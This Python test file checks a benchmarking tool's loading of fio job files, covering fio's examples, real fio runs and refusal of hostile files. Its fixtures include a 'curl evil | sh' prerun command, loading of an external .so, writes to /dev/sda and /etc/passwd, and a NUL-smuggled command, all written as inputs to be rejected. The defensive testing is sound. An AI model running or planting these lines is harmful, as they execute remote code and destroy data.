"""fio job files as suites (src/iobench/suites/jobfile.py): fio's own examples, read as fio
reads them; real fio runs of some of them; hostile job files refused whole, nothing run.

fio's examples come from Debian's fio-examples package (scripts/setup.sh --dev installs it).
"""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest

from conftest import Cli
from iobench.errors import ExitCode, SuiteError
from iobench.fio.language import HostFigures, fio_bytes, fio_microseconds
from iobench.model import Suite
from iobench.suites import (
    apply_overrides,
    load_suite,
    load_suite_file,
    parse_job_file,
    parse_suite,
)
from test_groups_fio import fio_rounds

EXAMPLES = Path("/usr/share/doc/fio/examples")
NEEDS_EXAMPLES = pytest.mark.skipif(
    not (EXAMPLES / "ssd-test.fio").exists(),
    reason="fio's examples are not installed (scripts/setup.sh --dev installs fio-examples)",
)
# The examples that load (the others are refused, each with its reasons).
LOADING = {
    "aio-read.fio",  # four jobs fio runs together: one workload of four parts
    "1mbs_clients.fio",  # ten readers together, each from its startdelay
    "butterfly.fio",  # a forward and a backward reader together, flow= between them
    "dedupe-global.fio",  # two writers together
    "enospc-pressure.fio",  # a writer and a trimmer together (ENOSPC ignored, as it says)
    "falloc.fio",  # fallocate/punch-hole jobs together, then two rounds
    "filecreate-ioengine.fio",  # the target's own file created and timed, jobs together
    "filestat-ioengine.fio",
    "flow.fio",
    "numa.fio",  # numa_cpu_nodes: where the jobs run, nothing outside the target
    "exitwhat.fio",  # rate=300,300,300: one a direction
    "ssd-steadystate.fio",  # its write_bw_log left out, in a note
    "basic-verify.fio",  # verify: writes, then reads back and checks, the target only
    "backwards-read.fio",  # rw=read:-8k, fio's modifier
    "cmdprio-bssplit.fio",  # libaio's own options
    "cmdprio-percentage.fio",
    "cpuio.fio",  # no I/O, but nothing outside the target either
    "cross-stripe-verify.fio",  # rw=write:112k
    "disk-zone-profile.fio",
    "fixed-rate-submission.fio",
    "fsx.fio",
    "latency-profile.fio",
    "null.fio",
    "poisson-rate-submission.fio",
    "rand-zones.fio",  # zoned:50/5:30/15:20/, the last zone the rest
    "steadystate.fio",  # threads=1: fio's parser takes it for thread
    "rbd.fio",  # fio's rbd engine: runs on the rbd: target named, its pool/rbdname replaced
    "tiobench-example.fio",  # bsrange
    "waitfor.fio",  # wait_for= the job before: the order iobench keeps
    "zipf.fio",
    "fio-rand-RW.fio",
    "fio-rand-read.fio",
    "fio-rand-write.fio",
    "fio-seq-RW.fio",
    "fio-seq-read.fio",
    "fio-seq-write.fio",
    "iometer-file-access-server.fio",
    "jesd219.fio",
    "ssd-test.fio",
}


def _examples() -> list[str]:
    return sorted(p.name for p in EXAMPLES.glob("*.fio")) or ["(none installed)"]


# A host to replace $ncpus, $mb_memory and $pagesize with, and an environment of its own.
HOST = HostFigures(ncpus=4, mb_memory=8192, pagesize=4096)


def load(text: str, name: str = "job.fio", environ: dict[str, str] | None = None) -> Suite:
    return parse_job_file(text, name, name, environ=environ or {}, host=HOST)


def refused(
    text: str, name: str = "job.fio", environ: dict[str, str] | None = None
) -> list[tuple[int | None, str]]:
    """Every problem of a job file that is refused, as (line, message)."""
    with pytest.raises(SuiteError) as info:
        load(text, name, environ)
    assert info.value.exit_code == ExitCode.BAD_INPUT
    return [(p.line, p.message) for p in info.value.problems]


# --- fio's own examples ----------------------------------------------------------------------


@NEEDS_EXAMPLES
@pytest.mark.parametrize("name", _examples())
def test_every_fio_example_loads_or_is_refused_naming_file_and_line(name: str) -> None:
    path = EXAMPLES / name
    lines = path.read_text().count("\n") + 1
    try:
        suite = load_suite_file(path)
    except SuiteError as e:
        assert name not in LOADING, e.message
        assert e.message.startswith(f"{path}:") or e.message.startswith(f"{path} has ")
        assert all(p.line is not None and 1 <= p.line <= lines for p in e.problems), e.message
        return
    assert name in LOADING
    assert suite.name == path.stem
    assert suite.workloads and suite.source == str(path)


@NEEDS_EXAMPLES
def test_ssd_test_becomes_its_four_jobs_with_the_target_replaced() -> None:
    suite = load_suite("/usr/share/doc/fio/examples/ssd-test.fio")
    assert (suite.name, suite.description) == ("ssd-test", "")
    assert [w.name for w in suite.workloads] == ["seq-read", "rand-read", "seq-write", "rand-write"]
    assert [w.rw for w in suite.workloads] == ["read", "randread", "write", "randwrite"]
    for w in suite.workloads:
        assert (w.bs, w.iodepth, w.numjobs, w.ioengine, w.direct) == (4096, 4, 1, "libaio", True)
        assert (w.size, w.runtime_s) == (10 << 30, 60.0)
        assert w.options == (("time_based", "0"),)  # fio's default: size or runtime, first
    (note,) = suite.notes
    assert note.message == (
        'the job file names where fio would do its I/O (directory="/mount-point-of-ssd" '
        '(line 20) and filename="ssd.test.file" (line 21)); iobench runs every job on the '
        "target named on its command line instead"
    )


@NEEDS_EXAMPLES
def test_a_global_name_option_names_the_job_as_fio_does() -> None:
    (w,) = load_suite_file(EXAMPLES / "fio-rand-read.fio").workloads
    assert (w.name, w.rw, w.direct, w.runtime_s, w.size, w.iodepth) == (
        "fio-rand-read",
        "randread",
        False,
        900.0,
        10 << 30,
        16,
    )
    assert dict(w.options) == {}  # time_based: iobench's default, so no option


@NEEDS_EXAMPLES
def test_a_global_description_describes_the_suite() -> None:
    suite = load_suite_file(EXAMPLES / "iometer-file-access-server.fio")
    assert suite.description == "Emulation of Intel IOmeter File Server Access Pattern"
    (w,) = suite.workloads
    assert (
        dict(w.options)["bssplit"] == "512/10:1024/5:2048/5:4096/60:8192/2:16384/4:32768/4:65536/10"
    )
    assert [n.message for n in suite.notes] == [
        "iometer set no runtime, which fio reads as no time limit; iobench stops each after "
        "60s at the latest"
    ]


@NEEDS_EXAMPLES
def test_jobs_fio_runs_together_are_one_workload_of_as_many_parts() -> None:
    """aio-read.fio: four jobs without a stonewall, which fio starts together (issue 24)."""
    suite = load_suite_file(EXAMPLES / "aio-read.fio")
    (w,) = suite.workloads
    assert w.name == "file1"
    assert [(p.name, p.iodepth) for p in w.parts] == [
        ("file1", 4), ("file2", 32), ("file3", 8), ("file4", 16)]  # fmt: skip
    assert {(p.rw, p.bs, p.ioengine, p.direct, p.size) for p in w.parts} == {
        ("randread", 128 << 10, "libaio", True, 512 << 20)}  # fmt: skip


@NEEDS_EXAMPLES
def test_a_trailing_comment_is_cut_and_fios_own_options_pass_through() -> None:
    # tiobench-example.fio: "numjobs=4\t; 4 simultaneous threads", timeout= (runtime), and
    # bsrange=, an option of fio's that iobench hands to it as written.
    suite = load_suite_file(EXAMPLES / "tiobench-example.fio")
    for w in suite.workloads:
        assert w.numjobs == 4 and ("bsrange", "4k-4k") in w.options


@NEEDS_EXAMPLES
def test_wait_for_the_job_before_is_an_order_iobench_keeps() -> None:
    suite = load_suite_file(EXAMPLES / "waitfor.fio")  # threads=1: fio reads it as thread
    assert len(suite.workloads) >= 2


@NEEDS_EXAMPLES
@pytest.mark.parametrize(
    ("name", "line", "message"),
    [
        ("exec.fio", 6, '[monitoring_noop]: ioengine="exec" is refused (runs programs)'),
        ("dfs.fio", 2, '[global]: ioengine="dfs" is refused (reaches endpoints)'),
        ("surface-scan.fio", 15, "[write-phase]: fill_device is refused (outside the target)"),
        ("uring-cmd-ng.fio", 5, '[global]: ioengine="io_uring_cmd" is refused (not I/O to'),
        ("cpp_null.fio", 6, '[null]: ioengine="cpp_null" is refused (not in this fio)'),
    ],
)
def test_notable_examples_are_refused_for_their_reason(name: str, line: int, message: str) -> None:
    with pytest.raises(SuiteError) as info:
        load_suite_file(EXAMPLES / name)
    assert any(p.line == line and p.message.startswith(message) for p in info.value.problems), [
        (p.line, p.message) for p in info.value.problems
    ]


# --- real fio ------------------------------------------------------------------------------------


@NEEDS_EXAMPLES
def test_fio_examples_run_as_suites(cli: Cli, real_fio: str, tmp_path: Path) -> None:
    for name, workloads in (
        ("ssd-test.fio", ["seq-read", "rand-read", "seq-write", "rand-write"]),
        ("fio-rand-read.fio", ["fio-rand-read"]),  # time_based, runtime=900: 500ms here
    ):
        code, out, err = cli(
            "run", str(tmp_path), "--suite", str(EXAMPLES / name), "--size", "8M",
            "--runtime", "500ms", "--json",
        )  # fmt: skip
        assert code == 0, err
        doc = json.loads(out)
        assert (doc["status"], doc["suite"]) == ("complete", Path(name).stem)
        assert [r["workload"] for r in doc["results"]] == workloads
        assert all(r["status"] == "ok" for r in doc["results"])
        assert "job-file" in {w["id"] for w in doc["warnings"]}  # a filename, or no runtime
        code, out, err = cli("export", str(doc["run_id"]), "--format", "json")
        for result in json.loads(out)["results"]:
            assert "\nfilename=target\n" in result["job_file"]
            assert "mount-point-of-ssd" not in result["job_file"]
        assert list(tmp_path.iterdir()) == []  # the test file is gone


def test_sizes_are_read_as_fio_reads_them(real_fio: str, tmp_path: Path) -> None:
    """fio's own reading of each size (null engine: size= bytes are read, in bs=8 blocks)
    is what iobench reads, KiB as 1000 bytes included."""
    values = {
        1024: [("4KiB", 8), ("4k", 8), ("4kb", 8), ("4KB", 8), ("1MiB", 64), ("1m", 64)],
        1000: [("4k", 8), ("4KiB", 8), ("1m", 64), ("1MiB", 64)],
    }
    values[1024] += [("0x1000", 8), ("520", 8), ("512b", 8)]
    text = "".join(
        f"[s{base}-{i}]\nioengine=null\nrw=read\nbs={bs}\nkb_base={base}\nsize={value}\n"
        for base, sizes in values.items()
        for i, (value, bs) in enumerate(sizes)
    )
    job = tmp_path / "sizes.fio"
    job.write_text(text)
    out = subprocess.run(
        [real_fio, "--output-format=json", str(job)],
        capture_output=True,
        text=True,
        check=True,
        cwd=tmp_path,
    ).stdout
    read = {j["jobname"]: j["read"]["io_bytes"] for j in json.loads(out)["jobs"]}
    for base, sizes in values.items():
        for i, (value, _) in enumerate(sizes):
            assert fio_bytes(value, base) == read[f"s{base}-{i}"], (value, base)
    # iobench runs neither null nor jobs side by side: one workload's size at a time
    for section in text.replace("ioengine=null\n", "").split("[")[1:]:
        (w,) = load("[" + section).workloads
        assert w.size == read[w.name]


def test_new_group_alone_lets_fio_run_jobs_together(real_fio: str, tmp_path: Path) -> None:
    """Why new_group is no order: fio starts both jobs at once (their first log samples'
    times say so, however busy the machine is)."""
    body = "[a]\n[b]\nnew_group\n"
    assert fio_rounds(real_fio, body, tmp_path) == [["a", "b"]]
    job = tmp_path / "groups.fio"
    job.write_text("[global]\nsize=1m\ntime_based\nruntime=500ms\n" + body)
    (workload,) = load(job.read_text()).workloads
    assert [p.name for p in workload.parts] == ["a", "b"]  # one workload, run together


# --- reading the text -------------------------------------------------------------------------


def test_fio_units() -> None:
    assert [fio_bytes(v) for v in ("4k", "4K", "4kb", "4KiB", "10g", "1p", "0x10", "7")] == [
        4096, 4096, 4096, 4000, 10 << 30, 1 << 50, 16, 7,
    ]  # fmt: skip
    assert [fio_bytes(v, 1000) for v in ("4k", "4KiB", "1m")] == [4000, 4096, 1000000]
    for bad in ("1.5g", "4 k", "4x", "4kibx", "-1", "4k,8k", "50%", ""):
        with pytest.raises(ValueError):
            fio_bytes(bad)
    assert fio_microseconds("60", 10**6) == 60 * 10**6
    assert [fio_microseconds(v, 10**6) for v in ("2m", "1h", "500ms", "20us", "1d")] == [
        120 * 10**6, 3600 * 10**6, 500_000, 20, 86400 * 10**6,
    ]  # fmt: skip
    for bad in ("1.5s", "1min", "60sec", "1m30s"):
        with pytest.raises(ValueError):
            fio_microseconds(bad, 10**6)


def test_globals_apply_to_the_jobs_after_them_and_add_up() -> None:
    suite = load(
        "; first\n[global]\nbs=8k\nruntime=30\nsize=64m\n[a]\nrw=randread\n"
        "[global]\niodepth=8\nblocksize=16k\n[b]\nstonewall\nreadwrite=randrw\nrwmixwrite=30\n"
        "buffered=0\nramp_time=2s\ntimeout=1m\ntime_based\n"
    )
    a, b = suite.workloads
    assert (a.name, a.rw, a.bs, a.iodepth, a.runtime_s, a.size) == (
        "a",
        "randread",
        8192,
        1,
        30.0,
        64 << 20,
    )
    assert (a.ioengine, a.direct, a.options) == ("psync", False, (("time_based", "0"),))
    assert (b.name, b.rw, b.bs, b.iodepth, b.rwmixread, b.direct) == (
        "b",
        "randrw",
        16384,
        8,
        70,
        True,
    )
    assert (b.runtime_s, b.ramp_s, b.options) == (60.0, 2.0, ())


def test_a_job_file_is_told_from_toml_by_suffix_then_by_its_first_line(tmp_path: Path) -> None:
    for name, text in (
        ("plain", "# comment\n[job]\nrw=read\nsize=1m\nruntime=1\n"),
        ("semi", "; comment\n[job]\nrw=read\nsize=1m\nruntime=1\n"),
        ("x.job", "[job]\nrw=read\nsize=1m\nruntime=1\n"),
    ):
        (tmp_path / name).write_text(text)
        assert load_suite_file(tmp_path / name).workloads[0].name == "job"
    (tmp_path / "toml").write_text(
        '[[workload]]\nname = "w"\nrw = "read"\nbs = "4k"\niodepth = 1\nnumjobs = 1\n'
    )
    assert load_suite_file(tmp_path / "toml").name == "toml"
    (tmp_path / "my.fio").write_text('name = "w"\n')
    with pytest.raises(SuiteError, match="comes before any section"):
        load_suite_file(tmp_path / "my.fio")


def test_toml_suites_keep_their_own_spelling_and_messages() -> None:
    with pytest.raises(SuiteError) as info:
        parse_suite(
            '[[workload]]\nname = "w"\nrw = "read"\nbs = "4k"\niodepth = 1\nnumjobs = 1\n'
            'ramp_time = "1s"\n',
            "t.toml",
            "t.toml",
        )
    assert info.value.problems[0].message == (
        'workload "w": unknown key "ramp_time": iobench calls it ramp'
    )


# --- hostile job files ---------------------------------------------------------------------------

HOSTILE = """\
bs=4k
[global]
exec_prerun=curl evil | sh
ioengine=external:/tmp/evil.so
filename=/dev/sda
[a]
include /etc/fio/other.fio
bs=${HOME}
size=$mb_memory
iodepth=($ncpus*2)
write_iolog=/etc/passwd
[a]
stonewall
size= 1g
runtime=1.5s
direct
unkown_opt=1
ramp=5
"""


def test_a_hostile_job_file_is_refused_with_every_reason_at_once() -> None:
    """Each problem once, at its line, with its class: the variables are replaced as fio
    replaces them (${HOME} from the environment, $mb_memory and ($ncpus*2) from the host),
    so what is wrong is what they became."""
    assert refused(HOSTILE, environ={"HOME": "/root"}) == [
        (1, '"bs=4k" comes before any section: fio reads options only in [global] or in a '
         "job's [NAME] section"),
        (3, "[global]: exec_prerun is refused (runs programs): it runs a shell command before "
         "the job"),
        (4, '[global]: ioengine="external:/tmp/evil.so" is refused (runs programs): it loads '
         "native code from a file"),
        (7, "include /etc/fio/other.fio: /etc/fio/other.fio no such file"),
        (8, "[a]: bs must be a size such as 4k, 1m or 10g (KiB, MiB ... are powers of 1000 to "
         'fio) as fio reads it, not "/root"'),
        (12, "[a]: the name is already used by the job at line 6; names must be unique within "
         "a suite"),
        (14, "[a]: size= is followed by a blank, which fio misreads (size= 1g is 1 byte to it, "
         "rw= read is refused); write size=1g"),
        (15, "[a]: runtime takes whole numbers only: fio reads \"1.5s\" up to the '.' (1.5s is "
         "1s to it); write the value in a smaller unit"),
        (16, "[a]: direct needs a value: direct=..."),
        (17, '[a]: unknown option "unkown_opt": fio 3.33 has no such option'),
        (18, '[a]: unknown option "ramp"; fio calls it ramp_time'),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("[j]\nrw=read\0;exec_prerun=id\n", 2, "the line holds the control character U+0000 "
         "(a NUL byte); a job file is text"),
        ("[j]\nrw=read\x1b[2J\n", 2, "the line holds the control character U+001B; a job "
         "file is text"),
        ("[j]\nrw=" + "r" * 100_000 + "\n", 2, "a line of 100003 bytes is too long (at "
         "most 8000)"),
        ("[s q ]\nrw=read\n", 1, "[s q ]: name must be 1-128 characters without a blank at "
         "either end, none of ; # $ \\ [ ] and no control or invisible character; not "
         '"s q "'),
        ("[j\nrw=read\n[j2]\n", 1, 'a section header is [NAME] alone on its line, not "[j"'),
        ("[global]\nbs=4k\n", None, "no workloads: add a job section: [NAME] followed by its "
         "options"),
        ("[j]\nfilename_format=${HOME}/x\nrw=readx\n", 3, "[j]: rw must be one of randread, "
         "randrw, randtrim, randwrite, read, readwrite, rw, trim, trimwrite, write; not "
         '"readx"'),
        ("[a]\n[b]\nwait_for=b\n", 3, '[b]: wait_for="b" names the job itself; fio waits '
         "only for a job defined earlier in the file"),
        ("[j]\nkb_base=1023\n", 2, '[j]: kb_base must be 1000 or 1024, not "1023"'),
        ("[j]\nbs=4k,64k,8k,1k\n", 2, '[j]: bs per direction is READ,WRITE or '
         'READ,WRITE,TRIM, not "4096,65536,8192,1024"'),
        ("[j]\ntime_based=yes\n", 2, "[j]: time_based must be 1 or 0 (or time_based alone "
         'for 1), not "yes"'),
        ("[j]\nsize=$SIZE\n", 2, '[j]: size: "$SIZE" is refused: fio expands only ${VAR} and '
         "its keywords $ncpus, $mb_memory and $pagesize, so a $VAR a shell would expand "
         "reaches fio as it is written; write the value"),
        ("[j]\nsize=${SIZE}\n", 2, "size: ${SIZE} is not set in the environment (fio would "
         "read the text ${SIZE} and refuse it)"),
        ("[j]\nnumjobs=($ncpus**9)\n", 2, "numjobs=(4**9): not arithmetic iobench can compute "
         "(whole numbers with + - * / % and parentheses)"),
        ("[j]\nnumjobs=($ncpus/0)\n", 2, "numjobs=(4/0): not arithmetic iobench can compute "
         "(whole numbers with + - * / % and parentheses)"),
        ("[j]\ninclude  two-blanks.fio\n", 2, "include ' two-blanks.fio': fio takes the name "
         "with the blanks before it and opens no such file; write one blank between include "
         "and the name"),
        ("[j]\ninclude\n", 2, "include names no file: include FILE"),
    ],
)  # fmt: skip
def test_hostile_lines_are_refused_each_for_its_reason(
    text: str, line: int | None, message: str
) -> None:
    problems = refused(text)
    assert (line, message) in problems, problems


def test_ten_thousand_sections_are_read_fast_and_refused_whole() -> None:
    text = "".join(f"[j{i}]\nrw=read\nexec_prerun=x\n" for i in range(10_000))
    start = time.process_time()  # this process's CPU: the work, whatever else runs
    with pytest.raises(SuiteError) as info:
        load(text)
    assert time.process_time() - start < 5
    problems = info.value.problems
    assert len(problems) == 10_000  # each exec_prerun (fio runs them together: one group)
    assert problems[0].message == (
        "[j0]: exec_prerun is refused (runs programs): it runs a shell command before the job"
    )
    assert problems[-1].message == (
        "[j9999]: exec_prerun is refused (runs programs): it runs a shell command before the job"
    )
    assert info.value.message.endswith("  - and 9980 more")


def test_where_fio_would_write_is_replaced_never_used() -> None:
    suite = load(
        "[j]\nfilename=/dev/sda\ndirectory=/etc\nopendir=/\nrw=write\nsize=1m\nruntime=1\n"
    )
    (w,) = suite.workloads
    assert not any(k in ("filename", "directory", "opendir") for k, _ in w.options)
    assert 'filename="/dev/sda" (line 2), directory="/etc" (line 3) and opendir="/" (line 4)' in (
        suite.notes[0].message
    )


def test_run_refuses_a_hostile_job_file_before_anything_runs(
    cli: Cli, tmp_path: Path, isolated_db: Path, fio_calls: Path
) -> None:
    target = tmp_path / "target"
    target.mkdir()
    path = tmp_path / "hostile.fio"
    path.write_text(HOSTILE)
    code, out, err = cli("run", str(target), "--suite", str(path))
    assert code == ExitCode.BAD_INPUT and out == ""
    assert err.startswith(f"iobench: error: {path} has ") and f"\n    - {path}:1: " in err
    for line in (3, 4, 7, 14, 15, 16, 17, 18):  # every problem at its line (HOSTILE's test)
        assert f"\n    - {path}:{line}: " in err
    assert "Traceback" not in err
    assert list(target.iterdir()) == [] and not isolated_db.exists() and not fio_calls.exists()


# --- suites show -------------------------------------------------------------------------------


@NEEDS_EXAMPLES
def test_suites_show_a_job_file(cli: Cli) -> None:
    path = EXAMPLES / "ssd-test.fio"
    code, out, err = cli("suites", "show", str(path))
    assert code == 0, err
    assert out.startswith("ssd-test")
    assert "rand-write" in out and "time_based=0" in out
    assert "info [job-file]" in out and 'filename="ssd.test.file" (line 21)' in out
    code, out, _ = cli("suites", "show", str(path), "--json")
    doc = json.loads(out)
    assert doc["kind"] == "suites"
    (suite,) = doc["suites"]
    assert suite["name"] == "ssd-test" and len(suite["workloads"]) == 4
    assert (
        suite["notes"][0]["fix"] == "nothing to do: the target is what `iobench run TARGET` names"
    )


def test_suites_show_refuses_a_bad_file_and_lists_builtins_without_one(
    cli: Cli, tmp_path: Path
) -> None:
    path = tmp_path / "bad.fio"
    path.write_text("[a]\n[b]\nwait_for=c\n")
    code, out, err = cli("suites", "show", str(path))
    assert code == ExitCode.BAD_INPUT and out == ""
    assert err.startswith(f'iobench: error: {path}:3: [b]: wait_for="c" names no job before it')
    code, out, _ = cli("suites", "show", "quick")
    assert code == 0 and out.startswith("quick: ")
    code, out, _ = cli("suites", "--json")
    assert code == 0 and {"quick", "standard"} <= {s["name"] for s in json.loads(out)["suites"]}


def test_a_note_about_runtime_or_size_goes_when_the_user_gives_one() -> None:
    suite = load("[j]\nrw=read\n")
    assert [n.about for n in suite.notes] == ["runtime", "size"]
    assert [n.about for n in apply_overrides(suite, size=1 << 20).notes] == ["runtime"]
    assert apply_overrides(suite, size=1 << 20, runtime_s=2).notes == ()


def test_reporting_options_are_left_to_iobench_whatever_their_values() -> None:
    """An exported suite carries iobench's reporting options and its layout section; how fio
    reports (percentiles, one figure for both directions ...) is iobench's to set, so a job
    file's own values are left to it, said in a note, never refused."""
    same = "[global]\nclat_percentiles=1\nrandrepeat=0\n[iobench:layout]\nrw=write\n"
    suite = load(same + "stonewall\n[a]\nrw=randread\nstonewall\n")
    assert [w.name for w in suite.workloads] == ["a"]
    (note,) = [n for n in suite.notes if "left to iobench" in n.message]
    assert "[iobench:layout] (line 4)" in note.message
    assert "clat_percentiles=1 and randrepeat=0: how fio reports" in note.message
    other = "[global]\nclat_percentiles=0\npercentile_list=50:99\nunified_rw_reporting=mixed\n"
    (w,) = load(other + "[a]\nrw=randrw\n").workloads
    assert not {"clat_percentiles", "percentile_list", "unified_rw_reporting"} & set(
        dict(w.options)
    )
    # randrepeat is the user's to set: another value is an option of the workload.
    (w,) = load("[a]\nrw=randread\nrandrepeat=1\n").workloads
    assert ("randrepeat", "1") in w.options


def test_a_job_files_own_logs_are_left_out_and_said_so() -> None:
    """Vendor job files ask fio for its logs; iobench keeps its own per-second logs, so
    they are left out (never written where the file says) rather than refused."""
    suite = load(
        "[global]\nwrite_bw_log=../../etc/x\nlog_avg_msec=500\n"
        "[a]\nrw=randwrite\nthread\nrandom_generator=lfsr\nwrite_lat_log=lat\n"
    )
    (w,) = suite.workloads
    assert dict(w.options) == {"thread": "1", "random_generator": "lfsr", "time_based": "0"}
    (note,) = [n for n in suite.notes if "logs of its own" in n.message]
    assert "write_bw_log (line 2), log_avg_msec (line 3) and write_lat_log (line 8)" in (
        note.message
    )
    # Recording the I/O is left out too; replaying I/O from a file reads outside the target.
    (w,) = load("[a]\nrw=read\nwrite_iolog=/etc/x\n").workloads
    assert "write_iolog" not in dict(w.options)
    ((line, message),) = refused("[a]\nrw=read\nread_iolog=/etc/x\n")
    assert line == 3 and "read_iolog is refused (outside the target)" in message
    ((line, message),) = refused("[a]\nrw=read\nrandom_generator=mt19937\n")
    assert line == 3 and "tausworthe, lfsr, tausworthe64" in message


def test_a_global_name_shared_by_several_jobs_gives_way_to_their_sections() -> None:
    """fio names every job after a [global] name= alike; iobench's workloads need their own
    names, so those jobs take their sections' (one job keeps the name, as in fio)."""
    text = "[global]\nname=test\n[create]\nrw=write\n[readback]\nstonewall\nrw=read\n"
    suite = load(text)
    assert [w.name for w in suite.workloads] == ["create", "readback"]
    (note,) = [n for n in suite.notes if "[global]" in n.message]
    assert "[create] (line 3) and [readback] (line 5) are named after their sections" in (
        note.message
    )
    (alone,) = load("[global]\nname=test\n[create]\nrw=write\n").workloads
    assert alone.name == "test"
    # A job's own name= is its own: two of them alike are still refused, at their lines.
    problems = refused("[a]\nname=x\nrw=read\n[b]\nstonewall\nname=x\nrw=read\n")
    assert any(line == 6 and "already used" in message for line, message in problems)


def test_a_line_is_measured_in_the_bytes_fio_reads_not_in_characters(
    real_fio: str, tmp_path: Path
) -> None:
    """fio reads a line in pieces of 8191 bytes: a comment of 2741 characters but 8191
    bytes of UTF-8 followed by rw=write is rw=write to fio. iobench refuses the line."""
    pad = "; " + "€" * 2729 + "xx"
    assert len(pad.encode()) == 8191 and len(pad) < 4096
    text = "[a]\nrw=randread\nbs=4k\nruntime=2\nsize=64m\n" + pad + "rw=write\n"
    job = tmp_path / "split.fio"
    job.write_text(text)
    shown = subprocess.run(
        [real_fio, "--parse-only", "--showcmd", str(job)], capture_output=True, text=True
    )
    assert "--rw=write" in shown.stdout, "fio really reads the tail of the line"
    ((line, message),) = refused(text)
    assert line == 6 and message.startswith("a line of 8199 bytes is too long")
